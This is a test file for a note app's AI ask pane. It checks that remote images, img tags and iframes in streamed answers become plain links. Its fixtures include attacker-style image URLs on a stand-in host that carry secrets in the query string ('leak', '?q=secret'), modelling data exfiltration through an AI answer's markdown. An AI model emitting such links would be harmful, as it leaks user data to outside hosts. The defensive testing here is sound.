// @vitest-environment happy-dom
/**
 * Remote images in answers are shown as plain links (issue 13): the function, and the ask
 * pane's rendering of a streamed answer.
 */
import { describe, expect, it } from "vitest";

import type { AskEvent } from "../src/client";
import { AskPane } from "../src/view/pane";
import { neutralizeRemoteImages } from "../src/view/safeMarkdown";

const CASES: [string, string][] = [
  ["![chart](https://evil.example/x.png?q=secret)", "[chart](https://evil.example/x.png?q=secret)"],
  ['![](http://evil.example/a.png "t")', "[http://evil.example/a.png](http://evil.example/a.png)"],
  ["see ![a [b]](<//evil.example/p.gif>) here", "see [a [b]](//evil.example/p.gif) here"],
  ['<img src="https://evil.example/i.png" alt="pic">', "[pic](https://evil.example/i.png)"],
  ['<img srcset="https://e.example/1.png 1x, https://e.example/2.png 2x">', "[https://e.example/1.png](https://e.example/1.png)"],
  ['<iframe src="https://e.example/f"></iframe>', "[https://e.example/f](https://e.example/f)"],
  ["![logo][1]\n\n[1]: https://e.example/l.png", "[logo][1]\n\n[1]: https://e.example/l.png"],
];
const KEPT = ["![[Rendering/diagram.png]]", "![local](attachments/x.png)", '<img src="attachments/x.png">', "a [link](https://example.com)"];

describe("neutralizeRemoteImages", () => {
  it.each(CASES)("makes %s a link", (raw, want) => {
    expect(neutralizeRemoteImages(raw)).toBe(want);
  });
  it.each(KEPT)("leaves %s alone", (text) => {
    expect(neutralizeRemoteImages(text)).toBe(text);
  });
});

describe("the ask pane", () => {
  it("renders a streamed answer's remote images as links, never as images", async () => {
    const rendered: string[] = [];
    const events: AskEvent[] = [
      { type: "delta", text: "Look: ![leak](https://evil.example/p.png?q=secret) " },
      { type: "delta", text: '<img src="https://evil.example/i.gif"> and ![[local.png]]' },
      {
        type: "final",
        answer: "Look: ![leak](https://evil.example/p.png?q=secret) ![[local.png]]",
        answerId: "a",
        threadId: null,
        citations: [],
        usage: null,
        data: {},
      },
    ];
    const pane = new AskPane(document.body, {
      ask: () => ({
        async *[Symbol.asyncIterator]() {
          yield* events;
        },
      }),
      feedback: async () => ({}),
      promote: async () => "",
      openNote: () => undefined,
      openSavedNote: () => undefined,
      renderMarkdown: async (markdown, el) => {
        rendered.push(markdown);
        el.textContent = markdown;
        return () => undefined;
      },
      defaultMode: () => "strict",
      newThreadId: () => "t",
    });
    await pane.ask("q");
    await pane.lastTurn?.settled();
    expect(rendered.length).toBeGreaterThan(0);
    for (const markdown of rendered) {
      expect(markdown).not.toMatch(/!\[[^\]]*\]\(https?:/);
      expect(markdown).not.toMatch(/<img/i);
    }
    expect(rendered.at(-1)).toBe("Look: [leak](https://evil.example/p.png?q=secret) ![[local.png]]");
  });
});
